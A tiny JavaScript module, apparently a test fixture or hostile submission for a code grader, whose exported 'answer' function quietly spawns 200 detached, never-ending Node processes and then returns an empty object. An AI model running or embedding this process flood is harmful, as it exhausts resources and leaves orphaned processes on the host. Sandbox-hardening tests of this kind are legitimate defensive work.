import { spawn } from 'node:child_process';

export function answer() {
  for (let count = 0; count < 200; count++) {
    try {
      spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true }).on('error', () => {});
    } catch {
      // No more of them.
    }
  }
  return {};
}
